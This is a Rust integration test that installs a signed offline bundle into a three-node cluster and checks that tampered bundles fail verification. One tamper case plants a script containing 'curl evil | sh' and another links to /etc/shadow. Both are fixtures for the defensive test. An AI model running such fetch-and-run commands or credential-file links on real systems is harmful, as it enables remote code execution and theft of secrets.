//! The offline bundle end to end (docs/operator/install.md, release.md).
//!
//! - `ops/bundle.sh --profile debug --bin-dir target/debug` packs the
//!   binaries under test with a release key made for this test; the
//!   tarball is copied into a fresh directory as from a USB stick,
//!   unpacked, verified with the bundle's own `enclavectl`, and a 3-node
//!   cluster is started from it with the commands install.md documents.
//!   As root, every node runs in its own network namespace that has no
//!   route out (checked), on the documented default ports; otherwise on
//!   loopback with free ports. The cluster must report 3 voters and carry
//!   a message from one node's api port to a member syncing on another.
//! - Tampered bundles: one flipped byte in one file, a wrong key, an extra
//!   file and a missing file each fail `bundle verify`, which names the
//!   file.
//!
//! Differences from a real site, on purpose: no `useradd` and no systemd
//! (the node is started with the unit's command line, `enclave start
//! --config FILE`), and every path lives under the test's directory
//! instead of /etc, /var/lib and /usr/local.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::Duration;

use enclave_tests::api::Api;
use enclave_tests::netns::{self, Net};
use enclave_tests::proc::free_ports;
use enclave_tests::{bin, wait_for_async};
use http::Method;
use serde_json::{Value, json};

fn repo_root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("..")
}

fn show(cmd: &Command) -> String {
    let mut s = cmd.get_program().to_string_lossy().into_owned();
    for a in cmd.get_args() {
        s.push(' ');
        s.push_str(&a.to_string_lossy());
    }
    s
}

/// Run to completion; the output, whatever the exit code.
fn output(cmd: &mut Command) -> Output {
    cmd.stdin(Stdio::null())
        .output()
        .unwrap_or_else(|e| panic!("cannot run `{}`: {e}", show(cmd)))
}

/// Run to completion and require success; returns stdout.
fn must(cmd: &mut Command) -> String {
    let out = output(cmd);
    assert!(
        out.status.success(),
        "`{}` failed ({}):\n--- stdout\n{}\n--- stderr\n{}",
        show(cmd),
        out.status,
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The vendor side: a fresh release key and a debug bundle of the binaries
/// under test. Returns (tarball, release.pub).
fn make_bundle(dir: &Path) -> (PathBuf, PathBuf) {
    let ctl = bin("enclavectl");
    bin("enclave");
    let bin_dir = ctl.parent().expect("target/<profile>").to_path_buf();
    let vendor = dir.join("vendor");
    must(
        Command::new(&ctl)
            .args(["release-key", "init", "--out"])
            .arg(vendor.join("key")),
    );
    let stdout = must(
        Command::new("bash")
            .arg(repo_root().join("ops/bundle.sh"))
            .args(["--profile", "debug", "--bin-dir"])
            .arg(&bin_dir)
            .arg("--key")
            .arg(vendor.join("key/release.key"))
            .arg("--out-dir")
            .arg(vendor.join("out")),
    );
    let tarball = PathBuf::from(
        stdout
            .lines()
            .last()
            .expect("bundle.sh prints the tarball")
            .trim(),
    );
    assert!(tarball.is_file(), "{} is missing", tarball.display());
    let name = tarball
        .file_name()
        .and_then(|n| n.to_str())
        .expect("tarball name");
    let version = env!("CARGO_PKG_VERSION");
    assert!(
        name.starts_with(&format!("enclave-{version}-")) && name.ends_with("-linux.tar.gz"),
        "unexpected bundle name {name}"
    );
    (tarball, vendor.join("key/release.pub"))
}

/// Top directory name of the bundle (the tarball name without .tar.gz).
fn top_dir(tarball: &Path) -> String {
    tarball
        .file_name()
        .and_then(|n| n.to_str())
        .and_then(|n| n.strip_suffix(".tar.gz"))
        .expect("enclave-….tar.gz")
        .to_string()
}

/// A node process; killed on drop. Its stderr goes to `log`.
struct NodeRun {
    child: Child,
    log: PathBuf,
}

impl Drop for NodeRun {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn tail(path: &Path) -> String {
    let s = fs::read_to_string(path).unwrap_or_default();
    let lines: Vec<&str> = s.lines().collect();
    lines[lines.len().saturating_sub(30)..].join("\n")
}

/// Where node `i` runs.
struct Place {
    ip: String,
    ports: [u16; 3],
    /// `ip netns exec NS`, or nothing on loopback.
    prefix: Vec<String>,
}

fn in_place(prefix: &[String], program: &Path) -> Command {
    match prefix.split_first() {
        Some((first, rest)) => {
            let mut c = Command::new(first);
            c.args(rest).arg(program);
            c
        }
        None => Command::new(program),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bundle_installs_a_three_node_cluster_with_the_documented_commands() {
    let tmp = tempfile::tempdir().expect("tmp");
    let (tarball, release_pub) = make_bundle(tmp.path());

    // Network: each node in its own namespace (no route out) when possible.
    let use_netns = netns::is_root()
        && Command::new("ip")
            .arg("-V")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success());
    let net = use_netns.then(|| Net::create(3));
    let places: Vec<Place> = (0..3)
        .map(|i| match &net {
            Some(net) => Place {
                ip: net.ip(i).to_string(),
                ports: [7400, 8443, 9443],
                prefix: net.exec_prefix(i),
            },
            None => Place {
                ip: "127.0.0.1".into(),
                ports: free_ports::<3>(),
                prefix: Vec::new(),
            },
        })
        .collect();
    if let Some(net) = &net {
        for i in 0..3 {
            let routes = must(
                Command::new("ip")
                    .args(["netns", "exec", &net.ns(i)])
                    .args(["ip", "route", "show", "default"]),
            );
            assert!(
                routes.trim().is_empty(),
                "namespace {} has a route out: {routes}",
                net.ns(i)
            );
        }
    } else {
        println!("install test on loopback: network namespaces need root and iproute2");
    }

    // --- install.md step 1: copy the bundle and release.pub from the stick.
    let site = tmp.path().join("site");
    let usb = site.join("media/usb");
    fs::create_dir_all(&usb).expect("mkdir");
    let bundle_file = usb.join(tarball.file_name().expect("name"));
    fs::copy(&tarball, &bundle_file).expect("copy bundle");
    fs::copy(&release_pub, usb.join("release.pub")).expect("copy key");
    let work = site.join("root");
    fs::create_dir_all(&work).expect("mkdir");
    // Step 2: unpack.
    must(
        Command::new("tar")
            .arg("-xzf")
            .arg(&bundle_file)
            .arg("-C")
            .arg(&work),
    );
    let bundle = work.join(top_dir(&tarball));
    // Step 4: verify with the bundle's enclavectl and the public key that
    // came by a second channel (inside node-1's namespace: no network needed).
    let out = must(
        in_place(&places[0].prefix, &bundle.join("bin/enclavectl"))
            .args(["bundle", "verify"])
            .arg(&bundle_file)
            .arg("--key")
            .arg(usb.join("release.pub")),
    );
    assert!(out.contains("OK: the signature is valid"), "{out}");
    // The independent check install.md gives for a first installation
    // (openssl and coreutils, nothing from the bundle).
    if output(Command::new("sh").args(["-c", "command -v openssl"]))
        .status
        .success()
    {
        must(
            Command::new("sh")
                .arg("-c")
                .arg("openssl pkeyutl -verify -pubin -inkey \"$1\" -rawin -in SHA256SUMS -sigfile SHA256SUMS.sig && sha256sum --quiet -c SHA256SUMS")
                .arg("sh")
                .arg(usb.join("release.pub"))
                .current_dir(&bundle),
        );
        // Step 2: the fingerprint a site compares with the vendor's letter
        // is the one the bundle was signed with.
        let fp = must(
            Command::new("sh")
                .arg("-c")
                .arg("openssl pkey -pubin -in \"$1\" -outform DER | sha256sum")
                .arg("sh")
                .arg(usb.join("release.pub")),
        );
        let fp = fp.split_whitespace().next().unwrap_or_default().to_string();
        let manifest = fs::read_to_string(bundle.join("MANIFEST")).expect("MANIFEST");
        assert!(
            manifest.contains(&format!("release_key: sha256:{fp}")),
            "install.md's fingerprint {fp} is not the MANIFEST's:\n{manifest}"
        );
    } else {
        println!("openssl not installed: skipping install.md's cross-check of the signature");
    }
    // Step 5: install the binaries where the unit runs them.
    let usr_bin = site.join("usr/local/bin");
    must(Command::new("install").arg("-d").arg(&usr_bin));
    must(
        Command::new("install")
            .args(["-m", "0755"])
            .arg(bundle.join("bin/enclave"))
            .arg(bundle.join("bin/enclavectl"))
            .arg(&usr_bin),
    );
    let ctl = usr_bin.join("enclavectl");
    let enclave = usr_bin.join("enclave");
    // What the bundle holds.
    for f in [
        "bin/enclave",
        "bin/enclavectl",
        "ops/systemd/enclave.service",
        "ops/systemd/enclave.toml",
        "README.md",
        "MANIFEST",
        "sbom.cdx.json",
        "SHA256SUMS",
        "SHA256SUMS.sig",
        "docs/operator/install.md",
        "docs/operator/release.md",
        "docs/api/README.md",
    ] {
        assert!(bundle.join(f).is_file(), "the bundle has no {f}");
    }
    let manifest = fs::read_to_string(bundle.join("MANIFEST")).expect("MANIFEST");
    assert!(
        manifest
            .lines()
            .any(|l| l.starts_with("glibc_floor: GLIBC_2.")),
        "MANIFEST states no glibc floor:\n{manifest}"
    );
    let sbom: Value =
        serde_json::from_slice(&fs::read(bundle.join("sbom.cdx.json")).expect("sbom"))
            .expect("sbom json");
    assert_eq!(sbom["bomFormat"], "CycloneDX");
    assert_eq!(sbom["specVersion"], "1.5");
    let comps = sbom["components"].as_array().expect("components");
    for name in ["ring", "rustls", "openraft", "sled", "enclave-node"] {
        assert!(
            comps
                .iter()
                .any(|c| c["name"] == name && c["scope"] == "required"),
            "{name} is not in the SBOM as a run-time component"
        );
    }
    assert!(
        !comps.iter().any(|c| c["name"] == "proptest"),
        "a dev-dependency is in the SBOM"
    );

    // --- CA machine: steps "CA init", "issue node certificates", operator.
    let ca = site.join("srv/enclave-ca");
    must(
        Command::new(&ctl)
            .args(["ca", "init", "--dir"])
            .arg(&ca)
            .args(["--name", "Install Test CA"]),
    );
    let names = ["node-1", "node-2", "node-3"];
    for (i, name) in names.iter().enumerate() {
        must(
            Command::new(&ctl)
                .args(["cert", "issue", "node", "--dir"])
                .arg(&ca)
                // install.md gives a second --ip for the management
                // network; here both networks are one address.
                .args(["--name", name, "--ip", &places[i].ip]),
        );
    }
    let admin = site.join("home/admin/enclave-admin");
    must(
        Command::new(&ctl)
            .args(["cert", "issue", "operator", "--dir"])
            .arg(&ca)
            .args(["--name", "zhang.wei", "--role", "sysadmin", "--out"])
            .arg(&admin),
    );

    // --- every node: directories, configuration, TLS files, start.
    let unit = fs::read_to_string(bundle.join("ops/systemd/enclave.service")).expect("unit");
    let exec_start: Vec<String> = unit
        .lines()
        .find_map(|l| l.strip_prefix("ExecStart="))
        .expect("the unit has an ExecStart=")
        .split_whitespace()
        .map(str::to_string)
        .collect();
    assert_eq!(
        exec_start.first().map(String::as_str),
        Some("/usr/local/bin/enclave"),
        "install.md installs the binary where the unit runs it"
    );
    let mut nodes = Vec::new();
    for (i, name) in names.iter().enumerate() {
        let root = site.join(name);
        let data = root.join("var/lib/enclave");
        let tls = data.join("tls");
        let etc = root.join("etc/enclave");
        let toml = etc.join("enclave.toml");
        // Step 7: directories.
        must(
            Command::new("install")
                .args(["-d", "-m", "0700"])
                .arg(&data)
                .arg(&tls),
        );
        // Step 8: the bundle's example configuration (written for node-1).
        must(Command::new("install").args(["-d", "-m", "0750"]).arg(&etc));
        must(
            Command::new("install")
                .args(["-m", "0640"])
                .arg(bundle.join("ops/systemd/enclave.toml"))
                .arg(&toml),
        );
        // Step 9: this node's name and addresses, with install.md's sed.
        // The test's nodes have one address for both networks.
        let p = &places[i];
        must(
            Command::new("sed")
                .arg("-i")
                .arg(format!(
                    "s/node-1/{name}/; s/10\\.0\\.0\\.11/{ip}/g; s/10\\.10\\.0\\.11/{ip}/g",
                    ip = p.ip
                ))
                .arg(&toml),
        );
        // Where the test differs from a server: paths under its directory,
        // and on loopback its own ports.
        let mut text = fs::read_to_string(&toml).expect("config");
        text = text.replace("/var/lib/enclave", &data.display().to_string());
        if net.is_none() {
            text = text
                .replace("0.0.0.0:8443", &format!("{}:8443", p.ip))
                .replace(":7400\"", &format!(":{}\"", p.ports[0]))
                .replace(":8443\"", &format!(":{}\"", p.ports[1]))
                .replace(":9443\"", &format!(":{}\"", p.ports[2]));
        }
        fs::write(&toml, &text).expect("config");
        assert!(
            text.contains(&format!("id = \"{name}\"")) && !text.contains("10.0.0.11"),
            "install.md's sed did not make the example config node {name}'s:\n{text}"
        );
        // Step 14: the node's certificate, key, CA and CRL.
        let issued = ca.join(format!("issued/node-{name}"));
        must(
            Command::new("install")
                .args(["-m", "0600"])
                .arg(issued.join("ca.pem"))
                .arg(issued.join("cert.pem"))
                .arg(issued.join("key.pem"))
                .arg(ca.join("crl.pem"))
                .arg(&tls),
        );
        // Step 15: the unit's ExecStart (no systemd here).
        let log = root.join("enclave.log");
        let args: Vec<String> = exec_start[1..]
            .iter()
            .map(|a| {
                if a == "/etc/enclave/enclave.toml" {
                    toml.display().to_string()
                } else {
                    a.clone()
                }
            })
            .collect();
        let child = in_place(&p.prefix, &enclave)
            .args(&args)
            .env_remove("RUST_LOG")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(fs::File::create(&log).expect("log"))
            .spawn()
            .expect("start enclave");
        nodes.push(NodeRun { child, log });
    }

    // --- admin: wait until each node answers, init, add, check.
    let admin_url = |i: usize| format!("https://{}:{}", places[i].ip, places[i].ports[2]);
    let ctl_at = |i: usize| {
        let mut c = in_place(&places[0].prefix, &ctl);
        c.arg("--cert-dir")
            .arg(&admin)
            .arg("--endpoint")
            .arg(admin_url(i));
        c
    };
    let logs = |nodes: &mut Vec<NodeRun>| {
        nodes
            .iter_mut()
            .enumerate()
            .map(|(i, n)| {
                let state = match n.child.try_wait() {
                    Ok(Some(s)) => format!("exited: {s}"),
                    _ => "running".into(),
                };
                format!("--- node-{} ({state})\n{}", i + 1, tail(&n.log))
            })
            .collect::<Vec<_>>()
            .join("\n")
    };
    for i in 0..3 {
        let ok = (0..600).any(|_| {
            if output(ctl_at(i).arg("status")).status.success() {
                return true;
            }
            std::thread::sleep(Duration::from_millis(100));
            false
        });
        assert!(
            ok,
            "node-{} never answered `enclavectl status`:\n{}",
            i + 1,
            logs(&mut nodes)
        );
    }
    let out = must(ctl_at(0).args(["cluster", "init"]));
    assert!(out.contains("Initialized"), "{out}");
    for i in 1..3 {
        let p = &places[i];
        must(ctl_at(0).args([
            "cluster",
            "add",
            "--name",
            names[i],
            "--peer",
            &format!("{}:{}", p.ip, p.ports[0]),
            "--api",
            &format!("{}:{}", p.ip, p.ports[1]),
            "--admin",
            &format!("{}:{}", p.ip, p.ports[2]),
        ]));
    }
    let voters = (0..1200).find_map(|_| {
        let out = output(ctl_at(0).args(["--output", "json", "cluster", "status"]));
        if out.status.success()
            && let Ok(v) = serde_json::from_slice::<Value>(&out.stdout)
        {
            let members = v["members"].as_array().cloned().unwrap_or_default();
            let ready = members
                .iter()
                .filter(|m| m["voter"] == true && !m["status"].is_null())
                .count();
            if ready == 3 && v["leader"].is_string() {
                return Some(members);
            }
        }
        std::thread::sleep(Duration::from_millis(100));
        None
    });
    let Some(members) = voters else {
        panic!(
            "the cluster never reported 3 voters:\n{}\n{}",
            must(ctl_at(0).args(["cluster", "status"])),
            logs(&mut nodes)
        );
    };
    let mut member_names: Vec<&str> = members.iter().filter_map(|m| m["name"].as_str()).collect();
    member_names.sort();
    assert_eq!(member_names, names);
    let status = must(ctl_at(0).args(["cluster", "status"]));
    assert_eq!(status.matches(" voter ").count(), 3, "{status}");

    // --- smoke test: two members, a message through node-2, read on node-3.
    let pw = site.join("pw");
    fs::write(&pw, "Initial-Passw0rd\n").expect("pw");
    must(ctl_at(0).args(["directory", "dept", "put", "1", "--name", "Install Test"]));
    for (user, display) in [("zhangsan", "张三"), ("lisi", "李四")] {
        must(
            ctl_at(0)
                .args([
                    "directory",
                    "member",
                    "add",
                    user,
                    "--name",
                    display,
                    "--dept",
                    "1",
                ])
                .arg("--password-file")
                .arg(&pw),
        );
    }
    let ca_pem = admin.join("ca.pem");
    let api = |i: usize| {
        Api::new(
            &format!("https://{}:{}", places[i].ip, places[i].ports[1]),
            &ca_pem,
        )
    };
    // The members reach node-3 through replication; wait for them there.
    let a3 = api(2);
    let lisi = wait_for_async("lisi can log in on node-3", Duration::from_secs(60), || {
        let a3 = a3.clone();
        async move {
            let (s, v) = a3
                .call(
                    Method::POST,
                    "/v1/login",
                    None,
                    Some(json!({ "userid": "lisi", "password": "Initial-Passw0rd" })),
                )
                .await;
            (s == 200)
                .then(|| v["access_token"].as_str().map(str::to_string))
                .flatten()
        }
    })
    .await;
    let a2 = api(1);
    let zhang = a2.login("zhangsan", "Initial-Passw0rd").await;
    a2.send_direct(
        &zhang,
        "lisi",
        "装好了 installed from the bundle",
        "install-1",
    )
    .await;
    let synced = wait_for_async(
        "the message in lisi's sync on node-3",
        Duration::from_secs(30),
        || {
            let a3 = a3.clone();
            let lisi = lisi.clone();
            async move {
                let (s, v) = a3
                    .call(Method::GET, "/v1/sync?timeout_ms=1000", Some(&lisi), None)
                    .await;
                (s == 200 && v.to_string().contains("installed from the bundle")).then_some(v)
            }
        },
    )
    .await;
    assert!(synced.to_string().contains("zhangsan"), "{synced}");
    drop(nodes);
    drop(net);
}

/// Unpack `tarball` into a fresh `dir`, let `change` alter the bundle
/// directory, pack it again (fast gzip) as `out`.
fn repack(tarball: &Path, dir: &Path, out: &Path, change: impl FnOnce(&Path)) {
    fs::create_dir_all(dir).expect("mkdir");
    must(
        Command::new("tar")
            .arg("-xzf")
            .arg(tarball)
            .arg("-C")
            .arg(dir),
    );
    change(&dir.join(top_dir(tarball)));
    must(Command::new("sh").arg("-c").arg(format!(
        "tar -C '{}' -cf - '{}' | gzip -1 > '{}'",
        dir.display(),
        top_dir(tarball),
        out.display()
    )));
}

/// `enclavectl bundle verify` (the binary under test); (success, stdout + stderr).
fn verify(file: &Path, key: &Path) -> (bool, String) {
    let out = output(
        Command::new(bin("enclavectl"))
            .args(["bundle", "verify"])
            .arg(file)
            .arg("--key")
            .arg(key),
    );
    (
        out.status.success(),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    )
}

#[test]
fn tampered_bundles_fail_verify_and_name_the_file() {
    let tmp = tempfile::tempdir().expect("tmp");
    let (tarball, key) = make_bundle(tmp.path());
    let (ok, out) = verify(&tarball, &key);
    assert!(ok, "the untouched bundle must verify:\n{out}");

    // One byte of one file.
    let flipped = tmp.path().join("flipped.tar.gz");
    repack(&tarball, &tmp.path().join("t1"), &flipped, |b| {
        let f = b.join("docs/operator/cluster.md");
        let mut bytes = fs::read(&f).expect("read");
        bytes[100] ^= 0x01;
        fs::write(&f, bytes).expect("write");
    });
    let (ok, out) = verify(&flipped, &key);
    assert!(!ok, "a flipped byte passed verify:\n{out}");
    assert!(
        out.lines()
            .any(|l| l.starts_with("DIFFERS") && l.contains("docs/operator/cluster.md")),
        "verify does not name the changed file:\n{out}"
    );
    assert!(out.contains("signature  ok"), "{out}");
    assert_eq!(out.matches("DIFFERS").count(), 1, "{out}");

    // The same byte flipped in a binary, SHA256SUMS rewritten to match: the signature fails.
    let resummed = tmp.path().join("resummed.tar.gz");
    repack(&tarball, &tmp.path().join("t2"), &resummed, |b| {
        let f = b.join("bin/enclave");
        let mut bytes = fs::read(&f).expect("read");
        let at = bytes.len() / 2;
        bytes[at] ^= 0x80;
        fs::write(&f, &bytes).expect("write");
        let digest = hex::encode(ring::digest::digest(&ring::digest::SHA256, &bytes));
        let sums = fs::read_to_string(b.join("SHA256SUMS")).expect("sums");
        let sums: String = sums
            .lines()
            .map(|l| {
                if l.ends_with("  bin/enclave") {
                    format!("{digest}  bin/enclave\n")
                } else {
                    format!("{l}\n")
                }
            })
            .collect();
        fs::write(b.join("SHA256SUMS"), sums).expect("write");
    });
    let (ok, out) = verify(&resummed, &key);
    assert!(!ok, "a re-summed bundle passed verify:\n{out}");
    assert!(
        out.lines()
            .any(|l| l.starts_with("BAD SIG") && l.contains("SHA256SUMS")),
        "{out}"
    );

    // A wrong key.
    let other = tmp.path().join("other");
    must(
        Command::new(bin("enclavectl"))
            .args(["release-key", "init", "--out"])
            .arg(&other),
    );
    let (ok, out) = verify(&tarball, &other.join("release.pub"));
    assert!(!ok, "verify passed with another key:\n{out}");
    assert!(out.contains("BAD SIG"), "{out}");
    assert!(out.contains("signed with another key"), "{out}");

    // An extra file and a missing file.
    let changed = tmp.path().join("changed.tar.gz");
    repack(&tarball, &tmp.path().join("t3"), &changed, |b| {
        fs::write(b.join("bin/helper.sh"), "#!/bin/sh\ncurl evil | sh\n").expect("write");
        fs::remove_file(b.join("docs/operator/pki.md")).expect("rm");
    });
    let (ok, out) = verify(&changed, &key);
    assert!(
        !ok,
        "verify passed with an extra and a missing file:\n{out}"
    );
    assert!(
        out.lines()
            .any(|l| l.starts_with("EXTRA") && l.contains("bin/helper.sh")),
        "{out}"
    );
    assert!(
        out.lines()
            .any(|l| l.starts_with("MISSING") && l.contains("docs/operator/pki.md")),
        "{out}"
    );

    // A symbolic link is refused even if nothing else changed.
    let linked = tmp.path().join("linked.tar.gz");
    repack(&tarball, &tmp.path().join("t4"), &linked, |b| {
        std::os::unix::fs::symlink("/etc/shadow", b.join("docs/shadow")).expect("symlink");
    });
    let (ok, out) = verify(&linked, &key);
    assert!(!ok, "verify passed with a symlink:\n{out}");
    assert!(
        out.lines()
            .any(|l| l.starts_with("UNEXPECTED") && l.contains("docs/shadow")),
        "{out}"
    );
}
